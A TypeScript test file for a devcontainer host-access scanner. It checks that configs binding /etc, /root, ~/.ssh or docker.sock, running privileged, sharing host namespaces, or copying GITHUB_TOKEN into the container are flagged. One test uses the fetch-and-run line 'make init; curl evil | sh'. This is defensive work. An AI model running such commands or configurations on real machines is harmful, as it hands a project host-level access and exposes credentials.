import { describe, expect, it } from 'vitest';
import { hostAccess, hostAccessHash, type HostAccessOptions } from '../../src/devcontainer/host-access.js';

const TREE = '/home/ann/devc/workspaces/shop/src/shop';

/** A tree with a link to /etc in it, a local Feature, and a Compose file. */
function options(files: Record<string, string> = {}): HostAccessOptions {
  return {
    sourcePath: TREE,
    configFile: '.devcontainer/devcontainer.json',
    env: { HOME: '/home/ann', GITHUB_TOKEN: 'ghp_x' },
    realpath: (p) => p.replace(`${TREE}/etc-link`, '/etc'),
    readFile: (p) => files[p],
  };
}

const lines = (config: Record<string, unknown>, files?: Record<string, string>): string[] =>
  hostAccess(config, options(files)).map((a) => `${a.source}: ${a.what}`);

describe('what in a devcontainer.json reaches this machine', () => {
  it.each<[string, Record<string, unknown>, string[]]>([
    ['an image alone', { image: 'debian' }, []],
    [
      'initializeCommand, as a string with variables',
      { initializeCommand: 'id > ${localWorkspaceFolderBasename}.txt\necho done' },
      ['initializeCommand: runs `id > shop.txt\\necho done` on this machine'],
    ],
    [
      'initializeCommand, as argv and as named commands',
      { initializeCommand: { a: ['touch', '/tmp/a'], b: 'echo b' } },
      [
        'initializeCommand: runs `touch /tmp/a` on this machine',
        'initializeCommand: runs `echo b` on this machine',
      ],
    ],
    [
      'a bind mount of /etc (string form)',
      { mounts: ['source=/etc,target=/hostetc,type=bind,readonly'] },
      ['mounts: binds /etc of this machine at /hostetc (read-only)'],
    ],
    [
      'a bind mount of the home folder through ${localEnv:HOME} (object form)',
      { mounts: [{ type: 'bind', source: '${localEnv:HOME}/.ssh', target: '/ssh' }] },
      [
        'mounts: binds /home/ann/.ssh of this machine at /ssh',
        "localEnv: copies HOME from this machine's environment into the workspace",
      ],
    ],
    [
      "binds inside the tree and ordinary volumes are the workspace's own",
      {
        mounts: [
          'type=bind,source=${localWorkspaceFolder}/cache,target=/cache',
          'type=volume,source=shop-cache,target=/cache2',
          'target=/cache3',
        ],
        workspaceMount: 'type=bind,source=${localWorkspaceFolder},target=/src',
      },
      [],
    ],
    [
      'a link in the tree to /etc reaches /etc',
      { mounts: [`type=bind,source=${TREE}/etc-link/ssl,target=/x`] },
      [`mounts: binds ${TREE}/etc-link/ssl of this machine at /x`],
    ],
    [
      'a relative bind source is not provably inside the tree',
      { mounts: ['type=bind,source=../other,target=/x'] },
      ['mounts: binds ../other of this machine at /x'],
    ],
    [
      'a workspaceMount of a folder outside the tree',
      { workspaceMount: 'type=bind,source=/,target=/workspaces/shop' },
      ['workspaceMount: binds / of this machine at /workspaces/shop'],
    ],
    [
      "a volume that binds a host folder, and devc's own volumes",
      {
        mounts: [
          'type=volume,target=/x,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/root',
          'source=devc-other-home,target=/other',
        ],
      },
      [
        'mounts: mounts /root of this machine at /x',
        "mounts: mounts devc's volume devc-other-home at /other",
      ],
    ],
    [
      'privileged, wide capabilities and protections off; SYS_PTRACE and NET_ADMIN stay inside',
      {
        privileged: true,
        capAdd: ['SYS_PTRACE', 'SYS_ADMIN', 'NET_ADMIN', 'cap_dac_read_search'],
        securityOpt: ['seccomp=unconfined', 'no-new-privileges'],
      },
      [
        'privileged: runs the container privileged: full access to this machine',
        'capAdd: adds the SYS_ADMIN capability, which reaches past the container',
        'capAdd: adds the DAC_READ_SEARCH capability, which reaches past the container',
        'securityOpt: switches off a protection of this machine (seccomp=unconfined)',
      ],
    ],
    [
      'runArgs: host namespaces, privileged, a device, another container',
      {
        runArgs: [
          '--privileged',
          '--pid=host',
          '--network',
          'host',
          '--ipc=host',
          '--userns=host',
          '--device=/dev/kvm',
          '--cap-add',
          'ALL',
          '--security-opt',
          'apparmor=unconfined',
          '--volumes-from',
          'devc-other',
        ],
      },
      [
        'runArgs --privileged: runs the container privileged: full access to this machine',
        "runArgs --pid=host: shares this machine's processes",
        "runArgs --network=host: shares this machine's network",
        "runArgs --ipc=host: shares this machine's shared memory",
        "runArgs --userns=host: shares this machine's user namespace (root in the container is root here)",
        "runArgs --device=/dev/kvm: gives the container this machine's device /dev/kvm",
        'runArgs --cap-add=ALL: adds the ALL capability, which reaches past the container',
        'runArgs --security-opt=apparmor=unconfined: switches off a protection of this machine (apparmor=unconfined)',
        'runArgs --volumes-from=devc-other: mounts every volume of container devc-other',
      ],
    ],
    [
      'runArgs: -v, grouped short flags and --mount with host sources',
      {
        runArgs: ['-v', '/:/host', '-itv/var/run/docker.sock:/sock:ro', '--mount=type=bind,src=/root,dst=/r'],
      },
      [
        'runArgs --volume=/:/host: binds / of this machine at /host',
        'runArgs --volume=/var/run/docker.sock:/sock:ro: binds /var/run/docker.sock of this machine at /sock (read-only)',
        'runArgs --mount=type=bind,src=/root,dst=/r: binds /root of this machine at /r',
      ],
    ],
    [
      'runArgs that stay inside: a host name, a named volume, a loopback port, a flag given a switch as value',
      {
        runArgs: [
          '--hostname',
          'box',
          '-v',
          'cache:/cache',
          '-p',
          '127.0.0.1:3000:3000',
          '--init',
          '--privileged=false',
        ],
      },
      [],
    ],
    [
      'runArgs and appPort that listen on every interface, files of this machine read or written',
      {
        runArgs: ['-p', '8080:80', '--env-file', '/home/ann/.aws/env', '--cidfile=/etc/cron.d/x'],
        appPort: [3000, '0.0.0.0:9000:9000'],
      },
      [
        'runArgs --publish=8080:80: listens on every network interface of this machine (8080:80)',
        'runArgs --env-file=/home/ann/.aws/env: reads /home/ann/.aws/env of this machine into the container',
        'runArgs --cidfile=/etc/cron.d/x: writes /etc/cron.d/x on this machine',
        'appPort: listens on every network interface of this machine (0.0.0.0:9000:9000)',
      ],
    ],
    [
      'a build context outside the tree and unusual build options',
      { build: { dockerfile: 'Dockerfile', context: '../../..', options: ['--pull', '--network=host'] } },
      [
        'build.context: sends /home/ann/devc/workspaces/shop of this machine to the image build',
        'build.options: passes `--pull --network=host` to docker build',
      ],
    ],
    [
      'a build in the tree with ordinary options',
      {
        build: { dockerfile: 'Dockerfile', context: '..', options: ['--pull', '--platform', 'linux/amd64'] },
      },
      [],
    ],
    [
      "variables of this machine's environment",
      { containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}', B: '${env:AWS_SECRET:none}' } },
      ["localEnv: copies AWS_SECRET, GITHUB_TOKEN from this machine's environment into the workspace"],
    ],
    [
      'a Compose config (devc does not read Compose files)',
      { dockerComposeFile: ['compose.yml'], service: 'app' },
      [
        "dockerComposeFile: starts the Compose services of .devcontainer/compose.yml, which can bind this machine's folders or run privileged",
      ],
    ],
  ])('%s', (_, config, expected) => {
    expect(lines(config)).toEqual(expected);
  });

  it("reads a local Feature's manifest; a Feature folder outside the tree is named", () => {
    const manifest = JSON.stringify({
      id: 'dind',
      privileged: true,
      mounts: [{ source: '/var/run/docker.sock', target: '/var/run/docker-host.sock', type: 'bind' }],
    });
    const files = { [`${TREE}/.devcontainer/dind/devcontainer-feature.json`]: manifest };
    expect(
      lines({ image: 'x', features: { './dind': {}, '../../../../other': {}, 'ghcr.io/x/y:1': {} } }, files),
    ).toEqual([
      'Feature ./dind: privileged: runs the container privileged: full access to this machine',
      'Feature ./dind: mounts: binds /var/run/docker.sock of this machine at /var/run/docker-host.sock',
      'Feature ../../../../other: builds a Feature from /home/ann/devc/workspaces/other of this machine',
    ]);
  });

  it("the hash changes with what is asked (a Compose file's contents too), not with anything else", () => {
    const hash = (config: Record<string, unknown>, files?: Record<string, string>) =>
      hostAccessHash(hostAccess(config, options(files)));
    const base = { image: 'x', initializeCommand: 'make init', forwardPorts: [3000] };
    expect(hash({ ...base, forwardPorts: [4000], postCreateCommand: 'npm ci' })).toBe(hash(base));
    expect(hash({ ...base, initializeCommand: 'make init; curl evil | sh' })).not.toBe(hash(base));
    const compose = { dockerComposeFile: 'compose.yml' };
    const file = `${TREE}/.devcontainer/compose.yml`;
    expect(hash(compose, { [file]: 'services: {}' })).not.toBe(
      hash(compose, { [file]: 'services: {x: {privileged: true}}' }),
    );
  });
});
